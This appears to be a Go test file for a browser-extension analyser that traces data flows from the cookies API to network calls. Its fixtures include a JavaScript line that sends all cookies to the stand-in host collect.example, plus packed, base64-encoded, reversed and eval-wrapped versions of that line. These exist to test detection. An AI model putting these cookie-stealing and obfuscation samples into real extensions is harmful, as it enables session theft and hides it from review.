package analysis

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/extwatch/extwatch/manifests"
	"github.com/extwatch/extwatch/signatures/behavior"
)

// background analyses one script as the background of an extension; other files may lie beside it.
func background(t *testing.T, name, code string) behavior.Report {
	t.Helper()
	const manifest = `{"manifest_version": 2, "name": "x", "version": "1", "permissions": ["cookies", "<all_urls>"], "background": {"scripts": ["bg.js"]}}`
	m, err := manifests.Parse([]byte(manifest))
	if err != nil {
		t.Fatal(err)
	}
	files := fstest.MapFS{"bg.js": {Data: []byte("go()")}}
	files["manifest.json"] = &fstest.MapFile{Data: []byte(manifest)}
	files[name] = &fstest.MapFile{Data: []byte(code)}
	return Analyze(context.Background(), Input{Manifest: m, Files: files})
}

func hasFlow(r behavior.Report, source, sink, host string) bool {
	return slices.ContainsFunc(r.Flows, func(f behavior.Flow) bool { return f.Source == source && f.Sink == sink && f.Host == host })
}

func TestFlowsOfObfuscatedFiles(t *testing.T) {
	files, err := filepath.Glob("../fold/testdata/obfuscated/out-*.js")
	if err != nil || len(files) == 0 {
		t.Fatal("no files", err)
	}
	for _, file := range files {
		t.Run(filepath.Base(file), func(t *testing.T) {
			code, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			r := background(t, "bg.js", string(code))
			if !hasFlow(r, "cookies", "fetch", "collect.example") {
				t.Errorf("flows %+v", r.Flows)
			}
			for _, c := range r.Contacts {
				if c.Host != "collect.example" {
					t.Errorf("a host that is not in the code: %s", c.Host)
				}
			}
			if !r.Complete {
				t.Errorf("not complete: %v", r.Problems)
			}
		})
	}
}

func TestFlowsOfPackedCode(t *testing.T) {
	const plain = `chrome.cookies.getAll({},l=>fetch("https://collect.example/x",{method:"POST",body:JSON.stringify(l)}))`
	const base64 = "Y2hyb21lLmNvb2tpZXMuZ2V0QWxsKHt9LGw9PmZldGNoKCJodHRwczovL2NvbGxlY3QuZXhhbXBsZS94Iix7bWV0aG9kOiJQT1NUIixib2R5OkpTT04uc3RyaW5naWZ5KGwpfSkp"
	var reversed strings.Builder
	for i := len(plain) - 1; i >= 0; i-- {
		reversed.WriteByte(plain[i])
	}
	quoted := "'" + reversed.String() + "'"
	for name, code := range map[string]string{
		"packer":       `eval(function(p,a,c,k){while(c--)if(k[c])p=p.replace(new RegExp('\\b'+c+'\\b','g'),k[c]);return p}('0.1.2({},l=>3("https://4.5/x",{6:"POST",7:8.9(l)}))',10,10,'chrome|cookies|getAll|fetch|collect|example|method|body|JSON|stringify'.split('|')))`,
		"constructor":  `(function(){}).constructor(atob("` + base64 + `"))()`,
		"put together": `var s = "", p = ` + quoted + `.split(""); for (var i = p.length; i--;) s += p[i]; new Function(s)()`,
		"in a local":   `(function () { var a = ` + quoted + `.split(""), o = ""; while (a.length) o += a.pop(); (0, eval)(o) })()`,
		"twice":        `eval("eval(atob('` + base64 + `'))")`,
	} {
		t.Run(name, func(t *testing.T) {
			for _, file := range []string{"bg.js", "lib/nobody.js"} {
				if r := background(t, file, code); !hasFlow(r, "cookies", "fetch", "collect.example") {
					t.Errorf("%s: flows %+v", file, r.Flows)
				}
			}
		})
	}
}

func TestTextsThatStayHidden(t *testing.T) {
	const table = `function t(){const a=["collect","push.alert","x/y","getAll"];t=function(){return a};return t()}
		function d(i){return t()[i-%s]}
		chrome.cookies[d(3)]({},l=>fetch("https://"+d(0)+".example/"+d(2)+l))`
	r := background(t, "bg.js", strings.Replace(table, "%s", "location.port", 1))
	if r.Complete || !slices.ContainsFunc(r.Obfuscation, func(s behavior.Sign) bool { return s.Kind == "undecoded" }) {
		t.Errorf("complete %v, signs %+v", r.Complete, r.Obfuscation)
	}
	if len(r.Contacts) > 0 {
		t.Errorf("hosts from texts that are not known: %+v", r.Contacts)
	}
	r = background(t, "bg.js", strings.Replace(table, "%s", "0", 1))
	if !r.Complete || !hasFlow(r, "cookies", "fetch", "collect.example") {
		t.Errorf("complete %v, flows %+v", r.Complete, r.Flows)
	}
}

// The signs stand where the code is.
func TestSignPlace(t *testing.T) {
	list := background(t, "bg.js", "\n\n  go(String.fromCharCode(104,116,116,112,115,58,47,47))").Obfuscation
	if len(list) != 1 || list[0].Place != (behavior.Place{File: "bg.js", Line: 3, Column: 26}) {
		t.Errorf("got %+v", list)
	}
}
